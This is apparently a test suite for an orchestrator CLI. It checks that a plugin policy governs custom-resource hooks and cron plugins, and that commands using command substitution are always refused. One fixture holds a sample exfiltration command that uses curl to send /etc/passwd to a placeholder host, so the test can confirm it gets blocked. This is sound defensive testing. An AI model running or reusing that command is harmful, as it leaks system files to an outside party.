/**
 * CRD hooks and plugins through the built CLI: the plugin policy
 * (`.orchestrator/plugin-policy.yaml`) refuses CRD commands at apply by
 * default while a dry run only warns; an allowed on_create / on_update /
 * on_delete hook runs with the instance in its environment and a failing one
 * refuses the change; commands using command substitution or network tools
 * are refused whatever the policy; webhook interceptors are refused as not
 * offered; a cron plugin runs on the controller at its ticks.
 */
import { chmodSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { initializedProject } from "../support/cli.js";
import { startController, stopAndRemove, tail, until, type RunningController } from "../support/controller.js";

const crd = (extra: string): string => `apiVersion: orchestrator.dev/v2
kind: CustomResourceDefinition
metadata:
  name: gadgets.lab.example.com
spec:
  kind: Gadget
  plural: gadgets
  group: lab.example.com
  versions:
    - name: v1
      schema:
        type: object
        properties:
          size: {type: integer}
${extra}`;

const HOOKS = `  hooks:
    on_create: "scripts/hook.sh"
    on_update: "scripts/hook.sh"
    on_delete: "scripts/hook.sh"
`;

const gadget = (name: string, size: number): string => `apiVersion: lab.example.com/v1
kind: Gadget
metadata:
  name: ${name}
spec:
  size: ${size}
`;

// Records each call; refuses a gadget named "bad".
const HOOK_SCRIPT = `#!/bin/sh
echo "$RESOURCE_ACTION $RESOURCE_KIND/$RESOURCE_NAME $RESOURCE_PROJECT $RESOURCE_SPEC" >> hook.log
if [ "$RESOURCE_NAME" = bad ]; then echo "bad gadgets are not allowed" >&2; exit 3; fi
`;

const ALLOWLIST = "mode: allowlist\nallowed_command_prefixes: [\"scripts/\"]\n";

describe("CRD hooks and plugins", () => {
  let p: ReturnType<typeof initializedProject> | undefined;
  let controller: RunningController | undefined;
  afterEach(async () => {
    await stopAndRemove(controller, p);
    controller = undefined;
    p = undefined;
  });

  const script = (rel: string, text: string): void => {
    chmodSync(p!.write(rel, text), 0o755);
  };

  it("refuses CRD commands under the default policy at apply, while a dry run exits 0 and warns", () => {
    p = initializedProject({ "crd.yaml": crd(HOOKS) });
    const dry = p.run(["apply", "--dry-run", "-f", "crd.yaml"]);
    expect(dry.code).toBe(0);
    expect(dry.stderr).toMatch(/warning: customresourcedefinition\/gadgets\.lab\.example\.com: spec\.hooks\.on_create: apply would refuse this: hook on_create may not run: the default policy \(no .*plugin-policy\.yaml\) runs no CRD command \(mode: deny\)/);
    const r = p.run(["apply", "-f", "crd.yaml"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/error: customresourcedefinition\/gadgets\.lab\.example\.com: spec\.hooks\.on_create: hook on_create may not run/);
    expect(r.stderr).toContain("nothing was applied");
    expect(p.run(["manifest", "validate", "-f", "crd.yaml"]).code).toBe(0);
  });

  it("refuses denied patterns whatever the policy, and webhook plugins as not offered", () => {
    p = initializedProject({
      "crd.yaml": crd(`  plugins:
    - name: exfiltrate
      type: cron
      schedule: "0 * * * *"
      command: "curl http://example.invalid/?d=$(cat /etc/passwd)"
    - name: verify
      type: interceptor
      phase: webhook.authenticate
      command: "scripts/verify.sh"
`),
    });
    p.write(".orchestrator/plugin-policy.yaml", "mode: allow_all\n");
    const r = p.run(["apply", "-f", "crd.yaml"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("plugin 'exfiltrate' may not run: it uses command substitution, which no policy allows");
    expect(r.stderr).toMatch(/spec\.plugins\[1\]\.type: plugin 'verify' is a webhook interceptor \(phase webhook\.authenticate\); webhook plugins are not offered/);
    expect(r.stderr).not.toMatch(/plugin 'verify' may not run/);
  });

  it("runs allowed hooks on create, update and delete; a failing hook refuses the change", () => {
    p = initializedProject({ "crd.yaml": crd(HOOKS), "a.yaml": gadget("alpha", 1), "a2.yaml": gadget("alpha", 2), "bad.yaml": gadget("bad", 1) });
    p.write(".orchestrator/plugin-policy.yaml", ALLOWLIST);
    script("scripts/hook.sh", HOOK_SCRIPT);
    expect(p.run(["apply", "-f", "crd.yaml"]).code).toBe(0);
    const log = (): string[] => (existsSync(join(p!.dir, "hook.log")) ? readFileSync(join(p!.dir, "hook.log"), "utf8").trim().split("\n") : []);

    expect(p.run(["apply", "-f", "a.yaml"]).code).toBe(0);
    expect(log()).toEqual(['create Gadget/alpha default {"size":1}']);
    // Unchanged: no hook. Changed spec: on_update.
    expect(p.run(["apply", "-f", "a.yaml"]).code).toBe(0);
    expect(p.run(["apply", "-f", "a2.yaml"]).code).toBe(0);
    expect(log()).toEqual(['create Gadget/alpha default {"size":1}', 'update Gadget/alpha default {"size":2}']);

    const bad = p.run(["apply", "-f", "bad.yaml"]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/on_create hook of Gadget\/bad failed \(exit 3\): bad gadgets are not allowed; nothing was applied/);
    expect(p.run(["get", "gadget/bad"]).code).not.toBe(0);

    const del = p.run(["delete", "gadget/alpha", "--force"]);
    expect(del.code).toBe(0);
    expect(log().at(-1)).toBe('delete Gadget/alpha default {"size":2}');
    expect(p.run(["get", "gadget/alpha"]).code).not.toBe(0);
  });

  it("a failing on_delete hook keeps the instance", () => {
    p = initializedProject({ "crd.yaml": crd(HOOKS), "bad.yaml": gadget("bad", 1) });
    p.write(".orchestrator/plugin-policy.yaml", ALLOWLIST);
    script("scripts/hook.sh", "#!/bin/sh\n[ \"$RESOURCE_ACTION\" = delete ] && { echo keep it >&2; exit 1; }\nexit 0\n");
    expect(p.run(["apply", "-f", "crd.yaml"]).code).toBe(0);
    expect(p.run(["apply", "-f", "bad.yaml"]).code).toBe(0);
    const del = p.run(["delete", "gadget/bad", "--force"]);
    expect(del.code).toBe(1);
    expect(del.stderr).toMatch(/on_delete hook of Gadget\/bad failed \(exit 1\): keep it\nnothing was deleted/);
    expect(p.run(["get", "gadget/bad"]).code).toBe(0);
  });

  it("runs a cron plugin on the controller at its ticks, and records each run", async () => {
    p = initializedProject({
      "crd.yaml": crd(`  plugins:
    - name: tick
      type: cron
      schedule: "* * * * * *"
      timezone: UTC
      command: "scripts/tick.sh"
      timeout: 5
`),
    });
    p.write(".orchestrator/plugin-policy.yaml", ALLOWLIST);
    script("scripts/tick.sh", '#!/bin/sh\necho "$PLUGIN_NAME $CRD_NAME" >> ticks.log\necho ticked\n');
    expect(p.run(["apply", "-f", "crd.yaml"]).code).toBe(0);
    controller = await startController(p.dir);
    const events = (): Array<{ kind: string; name: string; data: Record<string, unknown> }> => (JSON.parse(p!.run(["event", "list", "--type", "crd_plugin_ran", "-o", "json"]).stdout).items as Array<{ involvedObject: { kind: string; name: string }; data: Record<string, unknown> }>).map((e) => ({ ...e.involvedObject, data: e.data }));
    await until("two cron plugin runs", () => events().length >= 2, undefined, undefined, () => `plugin runs ${JSON.stringify(events())}; controller log: ${tail(controller!.log())}`);
    expect(readFileSync(join(p.dir, "ticks.log"), "utf8")).toMatch(/^tick gadgets\.lab\.example\.com\ntick gadgets\.lab\.example\.com\n/);
    expect(events()[0]).toMatchObject({ kind: "CustomResourceDefinition", name: "gadgets.lab.example.com", data: { plugin: "tick", exitCode: 0, output: "ticked" } });
    // A policy tightened after apply stops the command at its next tick.
    p.write(".orchestrator/plugin-policy.yaml", "mode: deny\n");
    await until("a refused run", () => JSON.parse(p!.run(["event", "list", "--type", "crd_plugin_refused", "-o", "json"]).stdout).items.length > 0, undefined, undefined, () => `plugin runs ${events().length}; controller log: ${tail(controller!.log())}`);
  });
});
